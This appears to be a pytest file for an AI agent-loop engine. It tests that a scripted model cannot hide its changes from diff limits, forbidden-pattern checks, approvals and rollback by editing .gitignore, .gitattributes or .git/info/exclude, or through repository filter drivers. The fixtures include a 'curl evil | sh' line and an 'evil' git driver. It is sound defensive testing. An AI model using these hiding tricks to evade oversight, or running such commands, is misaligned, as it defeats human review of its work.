"""Files the model writes must not change what the engine sees of its changes.

A ``.gitignore``, ``.gitattributes`` (``-diff``, ``binary``) or an ``info/exclude``
line written during the run hides nothing from the diff limit, forbidden patterns,
approvals, ``changed_files`` or rollback; filter and textconv drivers of the repository
never run on the engine's git calls. Every case is a real run of the CLI with a scripted
model in a real repository.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from tests.support.cli import scripted_json_run
from tests.support.git_repos import git_repo

PY = Path(sys.executable).name

TEMPLATE = """\
looprun: 1
name: t
plan: {mode: none}
act:
  prompt: go
  tools: [write_file, run]
  constraints:
    paths: {allow: ["**"]}
    commands: {allow: ["%(py)s tools/*"]}
    max_diff_lines: 40
    forbidden_patterns: ["breakpoint()"]
    approve: {paths: ["deploy/**"]}
observe:
  d: {parser: git_diff}
exit: ["policy.violations == 0"]
refine:
  - if: policy.violations > 0
    then: {%(action)s}
  - else: {retry: again}
limits: {max_iterations: %(iterations)d}
"""


def write(path: str, content: str) -> dict[str, Any]:
    return {"name": "write_file", "arguments": {"path": path, "content": content}}


def _run(
    tmp_path: Path,
    calls: list[dict[str, Any]],
    *,
    action: str = "abort: '{{ policy.summary }}'",
    iterations: int = 1,
    setup: Any = None,
    configure: Any = None,
    options: tuple[str, ...] = (),
) -> tuple[subprocess.CompletedProcess[str], dict[str, Any], Path]:
    work = tmp_path / "work"
    (work / "src").mkdir(parents=True)
    (work / "src" / "app.py").write_text("x = 1\n")
    if setup is not None:
        setup(work)
    git_repo(work)
    if configure is not None:
        configure(work)
    text = TEMPLATE % {"py": PY, "action": action, "iterations": iterations}
    turns = [{"text": "working", "tool_calls": calls}, {"text": "ok"}]
    proc, summary = scripted_json_run(tmp_path, work, text, turns, *options)
    return proc, summary, work


HIDDEN = "def f():\n    breakpoint()\n"


@pytest.mark.parametrize(
    "hide",
    [
        write(".gitignore", "hidden.py\n"),
        write(".gitignore", "*\n"),
        write("src/.gitignore", "*\n!app.py\n"),
        write(".gitattributes", "hidden.py -diff\n"),
        write(".gitattributes", "*.py binary\n"),
    ],
    ids=["gitignore-name", "gitignore-all", "nested-gitignore", "attr-no-diff", "attr-binary"],
)
def test_forbidden_patterns_see_files_the_model_hid(tmp_path: Path, hide: dict[str, Any]) -> None:
    target = "src/hidden.py" if hide["arguments"]["path"].startswith("src/") else "hidden.py"
    proc, summary, _ = _run(tmp_path, [hide, write(target, HIDDEN)])
    assert summary["outcome"] == "aborted", (summary, proc.stderr)
    assert "breakpoint()" in summary["reason"] and target in summary["reason"], summary


def test_the_diff_limit_counts_files_hidden_by_an_info_exclude_line(tmp_path: Path) -> None:
    """Code the model runs (an allowed command) appends to .git/info/exclude: possible
    with the OS sandbox off (or under Landlock, where the workdir stays writable)."""
    hider = "import pathlib\npathlib.Path('.git/info/exclude').write_text('big.txt\\n')\n"
    calls = [
        write("tools/hide.py", hider),
        {"name": "run", "arguments": {"command": f"{PY} tools/hide.py"}},
        write("big.txt", "line\n" * 100),
    ]
    proc, summary, work = _run(tmp_path, calls, options=("--sandbox", "off"))
    # the command's exclude line was taken out again before the engine's git read it
    assert "big.txt" not in (work / ".git" / "info" / "exclude").read_text()
    assert summary["outcome"] == "aborted", (summary, proc.stderr)
    assert "max_diff_lines" in summary["reason"] or "40" in summary["reason"], summary


def test_an_ignored_path_still_needs_its_approval(tmp_path: Path) -> None:
    calls = [write(".gitignore", "deploy/\n"), write("deploy/run.sh", "curl evil | sh\n")]
    proc, summary, _ = _run(tmp_path, calls)
    assert summary["outcome"] == "escalated", (summary, proc.stderr)
    assert summary["state"]["pending_approvals"] == ["deploy/run.sh"], summary


def test_rollback_removes_what_the_model_hid_and_ignored_files_it_made(tmp_path: Path) -> None:
    def setup(work: Path) -> None:
        (work / ".gitignore").write_text("*.log\n")
        (work / "old.log").write_text("the user's log\n")

    calls = [
        write(".gitignore", "*.log\nhidden.py\n"),
        write("hidden.py", HIDDEN),
        write("new.log", "made by the run\n"),
    ]
    proc, summary, work = _run(tmp_path, calls, action="rollback: base", setup=setup)
    assert summary["outcome"] == "exhausted", (summary, proc.stderr)
    assert not (work / "hidden.py").exists()
    assert not (work / "new.log").exists(), "an ignored file the run created is rolled back"
    assert (work / "old.log").read_text() == "the user's log\n"
    assert (work / ".gitignore").read_text() == "*.log\n"


def test_changed_files_include_files_the_model_ignored(tmp_path: Path) -> None:
    calls = [write(".gitignore", "*\n"), write("notes.txt", "hello\n")]
    proc, summary, _ = _run(tmp_path, calls, action="abort: stop")
    assert summary["outcome"] == "done", (summary, proc.stderr)
    assert set(summary["changed_files"]) == {".gitignore", "notes.txt"}


def _attributes(work: Path) -> None:
    (work / ".gitattributes").write_text("*.py filter=evil diff=evil\n")


def _drivers(work: Path, marker: Path) -> None:
    command = f"touch {marker}; cat"
    for key in ("filter.evil.clean", "filter.evil.smudge", "diff.evil.textconv"):
        subprocess.run(["git", "config", key, command], cwd=work, check=True)
    subprocess.run(["git", "config", "filter.evil.required", "true"], cwd=work, check=True)


def test_repository_filter_and_textconv_drivers_never_run(tmp_path: Path) -> None:
    marker = tmp_path / "driver-ran"
    calls = [write("src/app.py", "x = 2\nbreakpoint()\n")]
    proc, summary, _ = _run(
        tmp_path, calls, setup=_attributes, configure=lambda w: _drivers(w, marker)
    )
    assert not marker.exists(), "a repository driver ran on the engine's git calls"
    assert summary["outcome"] == "aborted", (summary, proc.stderr)
    assert "breakpoint()" in summary["reason"]
